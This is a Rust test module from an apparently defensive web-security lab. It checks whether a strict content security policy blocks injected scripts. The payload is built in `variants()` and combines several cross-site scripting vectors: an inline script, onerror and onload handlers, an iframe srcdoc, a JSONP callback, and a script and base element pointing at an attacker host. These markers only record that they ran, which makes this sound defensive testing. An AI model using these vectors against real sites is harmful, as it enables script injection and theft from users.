//! The same injection, on a page with a content security policy.

use serde_json::{Value, json};

use super::{About, Good};
use crate::net::encode;
use crate::run::stage::{Got, Stage, Tried};

pub(super) const ABOUT: About = About {
    title: "Injected script under a content security policy",
    claim: "A strict content security policy keeps injected scripts from running at all.",
    how: "The injection tries an inline script, a script of the attacker's host, event handlers, a script of the page's own \
          host that is not one, an inline frame and a base element, on a route whose headers Sessile sets in its configuration.",
    twin: "The page is sent without a policy.",
    good: Good::Stopped,
};

/// Each variant says that it ran by adding its name to `window.ran`.
fn variants(attacker: &str) -> String {
    let ran = |name: &str| format!("(top.ran=top.ran||[]).push('{name}')");
    format!(
        "<script>{inline}</script>\
         <img src=x onerror=\"{handler}\">\
         <svg onload=\"{svg}\"></svg>\
         <iframe srcdoc=\"<script>{frame}</script>\"></iframe>\
         <script src=\"/api/notes?callback=ran\"></script>\
         <script src=\"{attacker}/ran.js\"></script>\
         <base href=\"{attacker}/\">",
        inline = ran("an inline script"),
        handler = ran("an event handler"),
        svg = ran("an event handler in SVG"),
        frame = ran("an inline frame"),
    )
}

pub(super) async fn carry_out(stage: &mut Stage<'_>) -> Tried {
    stage.victim_is_in().await?;
    let (origin, attacker) = (stage.origin(), stage.lab.places.cross_site());
    let there = stage
        .tab
        .leave(|visit| {
            let query = visit.query();
            json!({ "do": "go", "url": format!("{origin}/strict?q={}&{query}", encode(&variants(&attacker))) })
        })
        .await?;
    if there.page != "driver" {
        return Ok(Got::not_measured("The page with the policy did not open."));
    }
    let ran = stage.ask(json!({ "do": "ran" })).await?;
    let names: Vec<&str> = ran.as_array().into_iter().flatten().filter_map(Value::as_str).collect();
    stage.note("what ran of the injected scripts", json!(names));
    Ok(Got::fell_if(
        !names.is_empty(),
        format!("Injected code ran: {}.", names.join(", ")),
        "Under the policy none of the injected scripts ran.",
    ))
}
